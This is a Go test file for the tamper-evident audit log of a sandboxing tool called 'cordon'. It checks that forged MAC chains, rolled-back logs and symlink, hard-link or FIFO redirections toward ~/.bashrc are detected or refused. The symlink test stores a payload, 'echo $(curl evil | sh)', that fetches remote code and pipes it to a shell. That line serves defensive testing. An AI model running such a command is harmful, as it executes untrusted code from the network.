package audit

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/cordon-sandbox/cordon/internal/state"
)

// rechain rewrites the log at path as someone without its key would after
// editing it: every record edited by edit, every MAC recomputed under k
// (which they made up), the key id claimed to be id, and a matching
// anchor. With plain, the chain is recomputed as format 1 (plain SHA-256).
func rechain(t *testing.T, path string, k *Key, id string, plain bool, edit func([]byte) []byte) {
	t.Helper()
	var out bytes.Buffer
	prev := ""
	n := uint64(0)
	for _, ln := range lines(t, path) {
		var l line
		require.NoError(t, json.Unmarshal(ln, &l))
		var r Record
		require.NoError(t, json.Unmarshal(l.Record, &r))
		r.Prev = prev
		rec, err := json.Marshal(r)
		require.NoError(t, err)
		rec = edit(rec)
		var nl line
		if plain {
			sum := sha256.Sum256(rec)
			nl = line{Hash: hex.EncodeToString(sum[:]), Record: rec}
			prev = nl.Hash
		} else {
			nl = line{V: Format, Key: id, MAC: k.mac("cordon audit record", rec), Record: rec}
			prev = nl.MAC
		}
		b, err := json.Marshal(nl)
		require.NoError(t, err)
		out.Write(append(b, '\n'))
		n++
	}
	require.NoError(t, os.WriteFile(path, out.Bytes(), 0o600))
	h := Head{Count: n, Hash: prev, Size: int64(out.Len())}
	if !plain {
		h.V, h.Key = Format, id
		h.MAC = h.sum(k)
	}
	b, err := json.Marshal(h)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(HeadPath(path), b, 0o600))
}

func allowAll(b []byte) []byte { return bytes.ReplaceAll(b, []byte(`"i":1`), []byte(`"i":7`)) }

// A log edited and re-chained by someone without the key fails, and the
// first bad record is named.
func TestVerifyRechainedWithoutKey(t *testing.T) {
	t.Run("their own key, our key id", func(t *testing.T) {
		path := writeLog(t, 3)
		theirs, err := NewKey()
		require.NoError(t, err)
		rechain(t, path, theirs, testKey.ID(), false, allowAll)
		_, err = Verify(path, testKey)
		var ve *VerifyError
		require.True(t, errors.As(err, &ve), "got %v", err)
		require.Equal(t, uint64(1), ve.Record)
		require.Contains(t, ve.Error(), "MAC does not match")
	})
	t.Run("their own key and key id", func(t *testing.T) {
		path := writeLog(t, 3)
		theirs, err := NewKey()
		require.NoError(t, err)
		rechain(t, path, theirs, theirs.ID(), false, allowAll)
		_, err = Verify(path, testKey)
		var ke *KeyError
		require.True(t, errors.As(err, &ke), "got %v", err)
	})
	t.Run("the all-zero key", func(t *testing.T) {
		path := writeLog(t, 3)
		rechain(t, path, &Key{}, testKey.ID(), false, allowAll)
		_, err := Verify(path, testKey)
		var ve *VerifyError
		require.True(t, errors.As(err, &ve), "got %v", err)
		require.Equal(t, uint64(1), ve.Record)
	})
	t.Run("as format 1", func(t *testing.T) {
		path := writeLog(t, 3)
		rechain(t, path, nil, "", true, allowAll)
		recs, err := Verify(path, testKey)
		require.ErrorIs(t, err, ErrUnkeyed)
		require.Contains(t, err.Error(), "not verified")
		require.Len(t, recs, 3) // its own chain holds; it still proves nothing
	})
	t.Run("anchor only", func(t *testing.T) {
		// Cut the last record and forge an anchor for the shorter log.
		path := writeLog(t, 3)
		ls := lines(t, path)
		rewrite(t, path, ls[:2])
		var l line
		require.NoError(t, json.Unmarshal(ls[1], &l))
		h := Head{V: Format, Key: testKey.ID(), Count: 2, Hash: l.MAC, Size: int64(len(ls[0]) + len(ls[1]))}
		h.MAC = h.sum(&Key{})
		b, _ := json.Marshal(h)
		require.NoError(t, os.WriteFile(HeadPath(path), b, 0o600))
		_, err := Verify(path, testKey)
		var ve *VerifyError
		require.True(t, errors.As(err, &ve), "got %v", err)
		require.Equal(t, uint64(0), ve.Record)
		require.Contains(t, ve.Error(), "anchor")
	})
}

// A log moved to another machine verifies there with its exported key,
// and only with it.
func TestVerifyMovedWithKey(t *testing.T) {
	path := writeLog(t, 4)
	other := tempDir(t)
	for _, p := range []string{path, HeadPath(path)} {
		b, err := os.ReadFile(p)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(filepath.Join(other, filepath.Base(p)), b, 0o644))
	}
	keyFile := filepath.Join(other, "audit.key")
	require.NoError(t, WriteKey(keyFile, testKey))
	fi, err := os.Stat(keyFile)
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), fi.Mode().Perm())
	require.Error(t, WriteKey(keyFile, testKey), "an existing file is never overwritten")

	k, err := ReadKey(keyFile)
	require.NoError(t, err)
	recs, err := Verify(filepath.Join(other, "audit.jsonl"), k)
	require.NoError(t, err)
	require.Len(t, recs, 4)

	wrong, err := NewKey()
	require.NoError(t, err)
	_, err = Verify(filepath.Join(other, "audit.jsonl"), wrong)
	var ke *KeyError
	require.True(t, errors.As(err, &ke), "got %v", err)
	require.Equal(t, testKey.ID(), ke.LogKey)
}

// writeUnkeyed writes a log of format 1 as cordon wrote it before keys.
func writeUnkeyed(t *testing.T, n int) string {
	path := writeLog(t, n)
	rechain(t, path, nil, "", true, func(b []byte) []byte { return b })
	return path
}

func TestUnkeyedLogIsReportedNotVerified(t *testing.T) {
	path := writeUnkeyed(t, 3)
	recs, err := Verify(path, testKey)
	require.ErrorIs(t, err, ErrUnkeyed)
	require.Len(t, recs, 3)
	l, err := Open(path, testKey)
	require.NoError(t, err)
	require.ErrorContains(t, l.Append(KindRequest, "t", 1), "unkeyed format 1")

	ls := lines(t, path)
	ls[1] = bytes.Replace(ls[1], []byte(`"i":1`), []byte(`"i":9`), 1)
	rewrite(t, path, ls)
	_, err = Verify(path, testKey)
	require.ErrorIs(t, err, ErrUnkeyed)
	require.ErrorContains(t, err, "record 2")
}

// The attack of docs/threat-model.md class 11: between two appends, the
// log (or its anchor, or its directory) becomes a symlink to a file the
// attacker may not write, standing in for ~/.bashrc, with a matching
// anchor. The append is refused, names the file, and changes nothing.
func TestAppendRefusesLinks(t *testing.T) {
	payload := map[string]string{"command": "echo $(curl evil | sh)"}
	setup := func(t *testing.T) (log, bashrc string, snap func() map[string]string) {
		home := tempDir(t)
		bashrc = filepath.Join(home, ".bashrc")
		require.NoError(t, os.WriteFile(bashrc, []byte("# original\n"), 0o644))
		require.NoError(t, os.Mkdir(filepath.Join(home, ".cordon"), 0o700))
		log = filepath.Join(home, ".cordon", "claude-code.jsonl")
		l, err := Open(log, testKey)
		require.NoError(t, err)
		require.NoError(t, l.Append(KindRequest, "t1", payload))
		return log, bashrc, func() map[string]string { return tree(t, home) }
	}
	// matchingHead writes an anchor that says the log is as long as target:
	// a copy of the real anchor with the size changed (its MAC cannot be
	// fixed without the key; with a key it could, which the open refuses).
	matchingHead := func(t *testing.T, log, target string) {
		h, err := ReadAnchor(log)
		require.NoError(t, err)
		fi, err := os.Stat(target)
		require.NoError(t, err)
		h.Size = fi.Size()
		b, _ := json.Marshal(h)
		require.NoError(t, os.Remove(HeadPath(log)))
		require.NoError(t, os.WriteFile(HeadPath(log), b, 0o600))
	}
	tests := []struct {
		name   string
		attack func(t *testing.T, log, bashrc string)
		says   string
	}{
		{"log is a symlink to bashrc", func(t *testing.T, log, bashrc string) {
			require.NoError(t, os.Remove(log))
			require.NoError(t, os.Symlink(bashrc, log))
			matchingHead(t, log, bashrc)
		}, "symlink"},
		{"log is a dangling symlink, anchor gone", func(t *testing.T, log, bashrc string) {
			require.NoError(t, os.Remove(log))
			require.NoError(t, os.Remove(HeadPath(log)))
			require.NoError(t, os.Symlink(filepath.Join(filepath.Dir(bashrc), ".bash_profile"), log))
		}, "symlink"},
		{"anchor is a symlink", func(t *testing.T, log, bashrc string) {
			require.NoError(t, os.Remove(HeadPath(log)))
			require.NoError(t, os.Symlink(bashrc, HeadPath(log)))
		}, "symlink"},
		{"directory is a symlink", func(t *testing.T, log, bashrc string) {
			// ~/.cordon -> ~, with claude-code.jsonl a real file there.
			dir := filepath.Dir(log)
			require.NoError(t, os.Rename(log, filepath.Join(filepath.Dir(dir), filepath.Base(log))))
			require.NoError(t, os.Rename(HeadPath(log), filepath.Join(filepath.Dir(dir), filepath.Base(HeadPath(log)))))
			require.NoError(t, os.Remove(dir))
			require.NoError(t, os.Symlink(filepath.Dir(dir), dir))
		}, "symlink"},
		{"log is a hard link to bashrc", func(t *testing.T, log, bashrc string) {
			require.NoError(t, os.Remove(log))
			require.NoError(t, os.Link(bashrc, log))
			matchingHead(t, log, bashrc)
		}, "hard links"},
		{"log is a FIFO", func(t *testing.T, log, bashrc string) {
			require.NoError(t, os.Remove(log))
			require.NoError(t, syscall.Mkfifo(log, 0o600))
		}, "not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			log, bashrc, snap := setup(t)
			tt.attack(t, log, bashrc)
			before := snap()
			l, err := Open(log, testKey)
			require.NoError(t, err)
			err = l.Append(KindRequest, "t2", payload)
			require.ErrorContains(t, err, tt.says)
			require.ErrorContains(t, err, log)
			require.Equal(t, before, snap(), "the refused append changed the tree")
			b, err := os.ReadFile(bashrc)
			require.NoError(t, err)
			require.Equal(t, "# original\n", string(b))
		})
	}
}

// TestReadAnchorRefusesFIFO plants a FIFO as the anchor of a log, as a
// sandbox that can write the log's directory could: ReadAnchor must say
// what is there, not wait for a writer that never comes.
func TestReadAnchorRefusesFIFO(t *testing.T) {
	log := writeLog(t, 1)
	require.NoError(t, os.Remove(HeadPath(log)))
	require.NoError(t, syscall.Mkfifo(HeadPath(log), 0o600))
	done := make(chan error, 1)
	go func() {
		_, err := ReadAnchor(log)
		done <- err
	}()
	select {
	case err := <-done:
		require.ErrorContains(t, err, "not a regular file")
	case <-time.After(10 * time.Second):
		t.Fatal("ReadAnchor still waits after 10 s on a FIFO planted as the anchor")
	}
}

func TestAppendRefusesOthersLog(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only root can give a file away") // the unprivileged half: conformance, as cordontest
	}
	path := writeLog(t, 1)
	require.NoError(t, os.Chown(path, 4242, 4242))
	l, err := Open(path, testKey)
	require.NoError(t, err)
	require.ErrorContains(t, l.Append(KindRequest, "t", 1), "belongs to uid 4242")
}

// The anchor is rewritten in place: a sandbox that has it bound read-only
// keeps that mount (a rename on the host would detach it).
func TestAnchorKeepsItsInode(t *testing.T) {
	path := writeLog(t, 1)
	before, err := os.Stat(HeadPath(path))
	require.NoError(t, err)
	l, err := Open(path, testKey)
	require.NoError(t, err)
	require.NoError(t, l.Append(KindRequest, "t", 2))
	after, err := os.Stat(HeadPath(path))
	require.NoError(t, err)
	require.True(t, os.SameFile(before, after))
	require.Equal(t, int64(headSize), after.Size())
}

func TestUserKey(t *testing.T) {
	dir := filepath.Join(tempDir(t), "state")
	t.Setenv(state.EnvDir, dir)
	var wg sync.WaitGroup
	ids := make([]string, 8)
	for i := range ids {
		wg.Add(1)
		go func() {
			defer wg.Done()
			k, err := UserKey()
			require.NoError(t, err)
			ids[i] = k.ID()
		}()
	}
	wg.Wait()
	for _, id := range ids {
		require.Equal(t, ids[0], id, "concurrent first uses agree on one key")
	}
	fi, err := os.Lstat(filepath.Join(dir, state.Audit, KeyFile))
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), fi.Mode())
	ents, err := os.ReadDir(filepath.Join(dir, state.Audit))
	require.NoError(t, err)
	require.Len(t, ents, 1, "no temporary key left behind")
	k, err := ExistingUserKey()
	require.NoError(t, err)
	require.Equal(t, ids[0], k.ID())

	require.NoError(t, os.Chmod(filepath.Join(dir, state.Audit, KeyFile), 0o644))
	_, err = UserKey()
	require.ErrorContains(t, err, "chmod 600")

	require.NoError(t, os.Remove(filepath.Join(dir, state.Audit, KeyFile)))
	require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, state.Audit, KeyFile)))
	_, err = UserKey()
	require.ErrorIs(t, err, ErrSymlink)

	t.Setenv(state.EnvDir, filepath.Join(tempDir(t), "none"))
	_, err = ExistingUserKey()
	require.ErrorIs(t, err, os.ErrNotExist)
}

func TestDefaultLog(t *testing.T) {
	dir := filepath.Join(tempDir(t), "state")
	t.Setenv(state.EnvDir, dir)
	l, err := OpenUser("", "claude-code.jsonl")
	require.NoError(t, err)
	require.Equal(t, filepath.Join(dir, state.Audit, "claude-code.jsonl"), l.Path())
	require.Empty(t, l.Protect(), "the state directory is denied in every sandbox already")
	require.NoError(t, l.Append(KindRequest, "t", 1))
	k, err := ExistingUserKey()
	require.NoError(t, err)
	_, err = Verify(l.Path(), k)
	require.NoError(t, err)

	named, err := OpenUser(filepath.Join(tempDir(t), "x.jsonl"), "")
	require.NoError(t, err)
	require.Equal(t, []string{named.Path(), named.Path() + ".head"}, named.Protect())
}

// tree is path -> mode, link target and content of everything under root.
func tree(t *testing.T, root string) map[string]string {
	m := map[string]string{}
	require.NoError(t, filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		v := fi.Mode().String()
		if fi.Mode()&os.ModeSymlink != 0 {
			tgt, _ := os.Readlink(p)
			v += " -> " + tgt
		} else if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			v += " " + string(b)
		}
		m[p] = v
		return nil
	}))
	return m
}

// Someone who cannot forge a MAC can still delete a log and its anchor, or
// put back a copy of both saved earlier; cordon's own anchor of the log,
// in its state directory, catches both, on append and on verify.
func TestKeptAnchor(t *testing.T) {
	save := func(t *testing.T, path string) (log, head []byte) {
		log, err := os.ReadFile(path)
		require.NoError(t, err)
		head, err = os.ReadFile(HeadPath(path))
		require.NoError(t, err)
		return log, head
	}
	restore := func(t *testing.T, path string, log, head []byte) {
		require.NoError(t, os.WriteFile(path, log, 0o600))
		require.NoError(t, os.WriteFile(HeadPath(path), head, 0o600))
	}
	t.Run("rolled back", func(t *testing.T) {
		path := writeLog(t, 2)
		oldLog, oldHead := save(t, path)
		l, err := Open(path, testKey)
		require.NoError(t, err)
		require.NoError(t, l.Append(KindRequest, "t", "the record they want gone"))
		restore(t, path, oldLog, oldHead)
		_, err = Verify(path, testKey)
		var ve *VerifyError
		require.True(t, errors.As(err, &ve), "got %v", err)
		require.Equal(t, uint64(3), ve.Record)
		require.Contains(t, ve.Error(), "cordon's own anchor")
		require.ErrorContains(t, l.Append(KindRequest, "t", 1), "does not continue where cordon left it")
	})
	t.Run("removed", func(t *testing.T) {
		path := writeLog(t, 2)
		require.NoError(t, os.Remove(path))
		require.NoError(t, os.Remove(HeadPath(path)))
		l, err := Open(path, testKey)
		require.NoError(t, err)
		require.ErrorContains(t, l.Append(KindRequest, "t", 1), "cordon audit forget")
		// The user removed it on purpose: forget, and a new log starts.
		forgot, err := Forget(path)
		require.NoError(t, err)
		require.True(t, forgot)
		require.NoError(t, l.Append(KindRequest, "t", 1))
		recs, err := Verify(path, testKey)
		require.NoError(t, err)
		require.Len(t, recs, 1)
	})
	t.Run("replaced by another log of the same key", func(t *testing.T) {
		path := writeLog(t, 2)
		other := writeLog(t, 2)
		l, _ := save(t, other)
		_, h := save(t, other)
		restore(t, path, l, h)
		_, err := Verify(path, testKey)
		var ve *VerifyError
		require.True(t, errors.As(err, &ve), "got %v", err)
		require.Equal(t, uint64(2), ve.Record)
	})
	t.Run("an append that stopped before cordon's anchor", func(t *testing.T) {
		path := writeLog(t, 2)
		kept, err := os.ReadFile(KeptAnchorPath(path))
		require.NoError(t, err)
		l, err := Open(path, testKey)
		require.NoError(t, err)
		require.NoError(t, l.Append(KindRequest, "t", 3))
		require.NoError(t, os.WriteFile(KeptAnchorPath(path), kept, 0o600)) // one behind
		require.NoError(t, l.Append(KindRequest, "t", 4))
		recs, err := Verify(path, testKey)
		require.NoError(t, err)
		require.Len(t, recs, 4)
	})
}

// Check finds up front, creating nothing, what would make every Append
// fail.
func TestCheck(t *testing.T) {
	dir := tempDir(t)
	fresh := filepath.Join(dir, "new.jsonl")
	l, err := Open(fresh, testKey)
	require.NoError(t, err)
	require.NoError(t, l.Check(), "a log not made yet")
	require.NoFileExists(t, fresh)
	require.NoError(t, l.Append(KindRequest, "t1", 1))
	require.NoError(t, l.Check(), "a log of the user's")

	link := filepath.Join(dir, "link.jsonl")
	require.NoError(t, os.Symlink(fresh, link))
	fifo := filepath.Join(dir, "fifo.jsonl")
	require.NoError(t, syscall.Mkfifo(fifo, 0o600))
	linkDir := filepath.Join(dir, "linkdir")
	require.NoError(t, os.Symlink(dir, linkDir))
	for _, tt := range []struct{ path, says string }{
		{link, "symlink"},
		{fifo, "not a regular file"},
		{filepath.Join(linkDir, "x.jsonl"), "symlink"},
	} {
		l, err := Open(tt.path, testKey)
		require.NoError(t, err)
		err = l.Check()
		require.ErrorContains(t, err, tt.says, tt.path)
		require.ErrorContains(t, err, tt.path)
	}
}

// A log whose directory is missing is an error naming the directory, and
// nothing is made: a typo in a path the user named must not grow a tree.
func TestAppendMakesNoDirectory(t *testing.T) {
	missing := filepath.Join(tempDir(t), "nonexist")
	l, err := Open(filepath.Join(missing, "d.jsonl"), testKey)
	require.NoError(t, err)
	for _, err := range []error{l.Check(), l.Append(KindRequest, "t1", 1)} {
		require.ErrorIs(t, err, os.ErrNotExist)
		require.ErrorContains(t, err, "directory "+missing+":")
	}
	require.NoDirExists(t, missing)
}
